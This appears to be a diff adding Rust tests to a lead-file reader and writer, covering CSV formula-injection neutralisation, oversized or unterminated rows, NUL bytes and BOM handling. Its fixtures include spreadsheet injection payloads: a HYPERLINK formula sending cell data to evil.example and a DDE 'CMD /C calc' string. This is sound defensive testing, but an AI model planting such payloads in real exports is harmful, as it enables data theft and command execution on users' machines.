@@ -267,3 +267,126 @@ fn missing_file_names_the_path() {
         "{err}"
     );
 }
+
+#[test]
+fn formula_cells_are_neutralised_in_csv_and_read_back_exactly() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut lead = sample_lead("=1+1");
+    lead.company_name = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".to_string();
+    lead.job_title = "+CMD|' /C calc'!A0".to_string();
+    lead.industry = "'=already quoted".to_string();
+    lead.domain = "-acme.com".to_string();
+    lead.inbound_message = "@SUM(A1:A9)\nthen a normal line".to_string();
+    let mut tab = sample_lead("L2");
+    tab.company_name = "\tTabbed".to_string();
+    tab.job_title = "\rReturned".to_string();
+    let leads = vec![lead, tab];
+    for format in [Format::Csv, Format::Jsonl] {
+        let name = match format {
+            Format::Csv => "leads.csv",
+            Format::Jsonl => "leads.jsonl",
+        };
+        let path = dir.path().join(name);
+        let columns = Columns {
+            gold: true,
+            meta: true,
+            tail: vec![],
+        };
+        let mut w = LeadWriter::new(fs::File::create(&path).expect("create"), format, columns)
+            .expect("writer");
+        for l in &leads {
+            w.write(l, &[]).expect("row");
+        }
+        w.finish().expect("finish");
+        let text = fs::read_to_string(&path).expect("read");
+        if format == Format::Csv {
+            let mut reader = csv::Reader::from_reader(text.as_bytes());
+            for record in reader.records() {
+                for cell in record.expect("record").iter() {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "a formula cell was written as it is: {cell:?}"
+                    );
+                }
+            }
+        } else {
+            assert!(text.contains("\"=HYPERLINK"), "JSONL is exact");
+        }
+        assert_eq!(read_leads(&path).expect("reads back"), leads, "{name}");
+    }
+}
+
+#[test]
+fn hostile_files_get_row_level_errors_not_unbounded_reads() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    // Not a regular file: would be read without end.
+    let msg = read_leads(Path::new("/dev/zero"))
+        .expect_err("not a file")
+        .to_string();
+    assert!(
+        msg.contains("/dev/zero") && msg.contains("not a regular file"),
+        "{msg}"
+    );
+    // One row past the cap, with no line break in sight (CSV and JSONL).
+    let huge = "x".repeat(lead_bench::lead::MAX_ROW_BYTES + 10);
+    let csv = format!(
+        "{HEADER}\nL1,Acme,10,a.com,saas,cto,,hi,referral\nL2,Acme,10,a.com,saas,cto,,{huge},referral\n"
+    );
+    let msg = error_of(dir.path(), "long.csv", csv.as_bytes());
+    assert!(
+        msg.contains("long.csv:3:") && msg.contains("longer than"),
+        "{msg}"
+    );
+    // A quoted field that never closes: reading stops at the cap, not at the end of the file.
+    let endless = "y".repeat(5 * lead_bench::lead::MAX_ROW_BYTES);
+    let csv = format!("{HEADER}\nL1,Acme,10,a.com,saas,cto,,\"{endless}");
+    let msg = error_of(dir.path(), "open.csv", csv.as_bytes());
+    assert!(
+        msg.contains("open.csv:2:") && msg.contains("longer than"),
+        "{msg}"
+    );
+    let jsonl = format!("{{\"x\": \"{huge}\"}}\n");
+    let msg = error_of(dir.path(), "long.jsonl", jsonl.as_bytes());
+    assert!(
+        msg.contains("long.jsonl:1:") && msg.contains("longer than"),
+        "{msg}"
+    );
+    // NUL characters would be copied raw into every output.
+    let msg = error_of(
+        dir.path(),
+        "nul.csv",
+        format!("{HEADER}\nL1,Ac\0me,10,a.com,saas,cto,,hi,referral\n").as_bytes(),
+    );
+    assert!(
+        msg.contains("row 1") && msg.contains("company_name") && msg.contains("NUL"),
+        "{msg}"
+    );
+    let msg = error_of(
+        dir.path(),
+        "nul.jsonl",
+        br#"{"company_name":"a","company_size":"","domain":"","industry":"","job_title":"","seniority":"","inbound_message":"hi\u0000","source":""}"#,
+    );
+    assert!(
+        msg.contains("inbound_message") && msg.contains("NUL"),
+        "{msg}"
+    );
+}
+
+#[test]
+fn a_jsonl_file_may_start_with_a_byte_order_mark_like_a_csv() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let line = r#"{"lead_id":"L1","company_name":"Acme","company_size":"10","domain":"a.com","industry":"saas","job_title":"CTO","seniority":"","inbound_message":"hi","source":"referral"}"#;
+    let path = write(
+        dir.path(),
+        "bom.jsonl",
+        format!("\u{feff}{line}\n").as_bytes(),
+    );
+    let leads = read_leads(&path).expect("a BOM is not an error");
+    assert_eq!(leads[0].lead_id, "L1");
+    let path = write(
+        dir.path(),
+        "bom.csv",
+        format!("\u{feff}{HEADER}\nL1,Acme,10,a.com,saas,CTO,,hi,referral\n").as_bytes(),
+    );
+    assert_eq!(read_leads(&path).expect("reads")[0].lead_id, "L1");
+}
